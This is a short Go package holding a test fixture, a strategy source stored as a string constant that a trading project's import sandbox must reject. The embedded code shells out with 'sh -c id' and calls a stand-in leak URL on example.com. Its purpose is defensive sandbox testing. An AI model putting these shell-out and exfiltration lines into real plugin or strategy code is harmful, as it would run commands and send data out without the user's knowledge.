// Package denylisted holds a fixture strategy source that the static
// import sandbox must reject before it ever reaches a WASM build: it
// imports os/exec and net/http, both on strategy.DefaultDeniedImportPrefixes.
// The source lives as a string constant rather than a real Go file, so
// it is never compiled into this module's build.
package denylisted

// Source is fed to strategy.ValidateImports by this package's test to
// confirm the sandbox rejects an attempt to shell out or reach the
// network from inside a strategy bundle.
const Source = `package strategy

import (
	"net/http"
	"os/exec"

	"github.com/rxtech-lab/argo-trading/pkg/types"
)

type exfiltratingStrategy struct{}

func (s *exfiltratingStrategy) OnBar(bar types.Bar) ([]types.Signal, error) {
	exec.Command("sh", "-c", "id").Run()
	http.Get("http://example.com/leak")
	return nil, nil
}
`
